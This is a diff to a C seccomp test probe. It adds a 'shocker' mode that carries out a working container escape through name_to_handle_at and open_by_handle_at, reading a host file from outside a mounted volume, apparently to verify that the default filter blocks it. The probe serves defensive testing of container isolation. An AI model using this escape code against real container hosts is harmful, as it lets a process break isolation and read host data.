@@ -2,13 +2,23 @@
  * makes each call the default filter denies, with arguments chosen so that
  * the call is harmless when allowed (bad flags, bad fds, missing paths,
  * /dev/null instead of a terminal), and prints "NAME RESULT" per line:
- * OK or the errno's name. Static, so it runs in any image. */
+ * OK or the errno's name. Static, so it runs in any image.
+ *
+ *   seccomp-probe handle PATH   (on the host) PATH's file handle, as
+ *                               TYPE:HEX
+ *   seccomp-probe shocker DIR HANDLE NAME
+ *                               (inside) the "shocker" escape: a handle of
+ *                               DIR (a volume), then HANDLE, made on the
+ *                               host for a directory outside the volume,
+ *                               opened through DIR's mount, and the first
+ *                               line of NAME in it printed as "escaped ..." */
 #define _GNU_SOURCE
 #include <errno.h>
 #include <fcntl.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
 #include <sys/ioctl.h>
 #include <sys/mman.h>
@@ -55,8 +65,57 @@ static void report(const char *name, long r)
         printf("%s %s\n", name, r < 0 ? errname(errno) : "OK");
 }
 
-int main(void)
+union handle {
+        struct file_handle h;
+        char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
+};
+
+static int print_handle(const char *path)
 {
+        union handle fh = { .h.handle_bytes = MAX_HANDLE_SZ };
+        int mnt;
+        if (name_to_handle_at(AT_FDCWD, path, &fh.h, &mnt, 0) < 0) {
+                printf("name_to_handle_at %s\n", errname(errno));
+                return 1;
+        }
+        printf("%d:", fh.h.handle_type);
+        for (unsigned i = 0; i < fh.h.handle_bytes; i++)
+                printf("%02x", fh.h.f_handle[i]);
+        printf("\n");
+        return 0;
+}
+
+static int shocker(const char *dir, const char *handle, const char *name)
+{
+        union handle fh = { .h.handle_bytes = MAX_HANDLE_SZ };
+        char *hex;
+        int mnt, n;
+        report("name_to_handle_at", name_to_handle_at(AT_FDCWD, dir, &fh.h, &mnt, 0));
+        fh.h.handle_type = (int)strtol(handle, &hex, 10);
+        if (*hex++ != ':')
+                return 2;
+        for (n = 0; n < MAX_HANDLE_SZ && sscanf(hex + 2 * n, "%2hhx", &fh.h.f_handle[n]) == 1; n++)
+                ;
+        fh.h.handle_bytes = (unsigned)n;
+        int mount_fd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+        long fd = open_by_handle_at(mount_fd, &fh.h, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+        report("open_by_handle_at", fd);
+        if (fd < 0)
+                return 0;
+        char line[256] = "";
+        FILE *f = fdopen(openat((int)fd, name, O_RDONLY | O_CLOEXEC), "r");
+        if (f && fgets(line, sizeof(line), f))
+                printf("escaped %s", line);
+        return 0;
+}
+
+int main(int argc, char **argv)
+{
+        if (argc == 3 && strcmp(argv[1], "handle") == 0)
+                return print_handle(argv[2]);
+        if (argc == 5 && strcmp(argv[1], "shocker") == 0)
+                return shocker(argv[2], argv[3], argv[4]);
+
         int null = open("/dev/null", O_RDWR | O_CLOEXEC);
         char c = 'x';
         long r;
